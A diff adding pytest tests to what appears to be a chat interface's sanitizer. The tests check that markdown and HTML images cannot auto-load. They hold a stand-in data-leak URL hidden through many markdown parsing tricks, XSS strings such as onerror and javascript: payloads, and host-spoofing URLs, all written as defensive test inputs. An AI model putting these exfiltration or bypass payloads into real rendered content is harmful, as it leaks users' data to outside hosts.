@@ -2,10 +2,15 @@
 
 from __future__ import annotations
 
+import html
+import re
+from typing import Any
+
 import pytest
+from markdown_it import MarkdownIt
 
 from chatui import tree
-from chatui.sanitize import inert_html
+from chatui.sanitize import CHAT_LATEX_DELIMITERS, image_allowed, inert_html, plain_markdown
 from chatui.tree import Source
 from chatui.ui.render import FOOTER_OPEN, render_message
 
@@ -73,3 +78,91 @@ def test_answers_reasoning_and_sources_render_inert_with_the_footer_intact() -> 
     assert "&lt;script>alert(3)&lt;/script>" in sources
     assert text.startswith("&lt;img src=x onerror=alert(1)>\n\n" + FOOTER_OPEN)
     assert '<button class="chatui-act chatui-do-regen' in text  # the app's own HTML stays
+
+
+# ----- images: none loads by itself (issue 9, item 3) -------------------------------------
+
+LEAK = "http://127.0.0.1:9/leak?d=secret"
+CHAT: dict[str, Any] = {"latex_delimiters": CHAT_LATEX_DELIMITERS}
+
+
+def _images(markdown: str) -> list[str]:
+    """What the page would fetch, near enough: the ``src`` of every ``<img>`` a CommonMark
+    renderer makes, after taking out the Chatbot's LaTeX regions first as the page does."""
+    for delimiter in CHAT_LATEX_DELIMITERS:
+        left, right = re.escape(str(delimiter["left"])), re.escape(str(delimiter["right"]))
+        markdown = re.sub(f"{left}[\\s\\S]+?{right}", "LATEX", markdown)
+    rendered = MarkdownIt("commonmark").render(markdown)
+    return re.findall(r'<img src="([^"]*)"', rendered)
+
+
+@pytest.mark.parametrize("text", [
+    f"Here: ![x]({LEAK}) done",
+    f"![x]({LEAK} \"a title\")",
+    f"![x](<{LEAK}>)",
+    f"![x][ref]\n\n[ref]: {LEAK}",
+    f"![ref]\n\n[ref]: {LEAK}",
+    f"![ref][]\n\n[ref]: {LEAK}",
+    f"[![x]({LEAK})](http://example.com/)",
+    f"![a ![b]({LEAK}) c]({LEAK})",
+    f"![x `]` y]({LEAK})",
+    f"- item\n\n    ![x]({LEAK})",
+    f"- item\n  ```\n![x]({LEAK})",
+    f"```a`b\n![x]({LEAK})",
+    f"$$`$$ ![x]({LEAK}) `",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "![" * 3000 + f"x]({LEAK})",  # built to make the look-aheads quadratic
+    "![a](" * 3000 + f"![x]({LEAK})",
+])
+def test_no_image_is_left_to_load(text: str) -> None:
+    assert _images(text), "the case is an image to begin with"
+    assert _images(inert_html(text, **CHAT)) == []
+
+
+def test_a_fence_closed_the_way_the_page_closes_it_hides_no_image() -> None:
+    # The page's parser (marked) closes a fence with "```~"; CommonMark would not.
+    assert "![" not in inert_html(f"```\ncode\n```~\n![x]({LEAK})", **CHAT)
+
+
+def test_an_image_becomes_a_link_showing_its_alt_text_and_host() -> None:
+    shown = inert_html(f"See ![the chart]({LEAK}).", **CHAT)
+    assert shown == f"See [🖼 the chart (127\\.0\\.0\\.1\\:9)](<{LEAK}>)."
+    rendered = MarkdownIt("commonmark").render(shown)
+    assert f'<a href="{LEAK.replace("&", "&amp;")}">🖼 the chart (127.0.0.1:9)</a>' in rendered
+
+
+def test_data_and_script_images_become_text() -> None:
+    assert inert_html("![dot](data:image/png;base64,AAAA)") == "🖼 dot (embedded image not shown)"
+    assert inert_html("![x](javascript:alert(1))") == "🖼 x (image not shown)"
+
+
+def test_images_in_code_and_not_images_stay_as_written() -> None:
+    for text in ("`![x](http://e/)`", "```\n![x](http://e/)\n```", "n![k] is a factorial",
+                 "Wow![not an image", "\\![x](http://e/)"):
+        assert inert_html(text, **CHAT) == text
+
+
+def test_allowed_hosts_keep_their_images_and_only_theirs() -> None:
+    hosts = ("127.0.0.1:9", "img.example")
+    kept = [f"![a]({LEAK})", "![b](https://IMG.example:8443/b.png)"]
+    refused = ["![c](http://127.0.0.1:10/c.png)", "![d](http://img.example.evil/d)",
+               "![e](http://img.example@evil.example/e)", "![f](http://evil.example\\@img.example/)",
+               "![g](http://img.example%2Eevil/)", "![h](ftp://img.example/h)"]
+    for text in kept:
+        assert _images(inert_html(text, image_hosts=hosts)) == _images(text)
+    for text in refused:
+        assert _images(inert_html(text, image_hosts=hosts)) == []
+    assert image_allowed("http://img.example/x", ["img.example"])
+    assert not image_allowed("http://img.example/x", [])
+
+
+def test_html_images_stay_inert_even_behind_math_and_list_code() -> None:
+    for text in ("$$`$$ <img src=http://e/x> `", "- a\n\n    <img src=http://e/x>",
+                 "- a\n  ```\n<img src=http://e/x>"):
+        assert "<img" not in inert_html(text, **CHAT)
+
+
+def test_plain_markdown_shows_every_character_and_makes_no_markup() -> None:
+    text = "HTTP 500: <img src=http://e/x> ![a](http://e/) *b* `c` $$d$$ &amp;"
+    rendered = MarkdownIt("commonmark").render(plain_markdown(text))
+    assert rendered == "<p>" + html.escape(text, quote=False).replace('"', "&quot;") + "</p>\n"
